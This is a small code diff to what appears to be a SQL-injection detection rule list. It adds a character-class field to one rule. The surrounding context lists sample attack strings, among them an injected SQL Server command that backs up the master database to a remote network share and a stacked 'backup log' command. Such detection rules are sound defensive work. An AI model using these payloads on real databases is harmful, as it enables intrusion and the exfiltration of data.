@@ -213,6 +213,7 @@ const marks: Rule[] = [
     {
       score: 5,
       quotable: true,
+      chars: CHAR.apostrophe | CHAR.quote,
       attacks: [
         "BACKUP database master to disks='\\\\203.0.113.9\\a\\b.dat'",
         "1;backup log x to disk = N'c:\\a'",
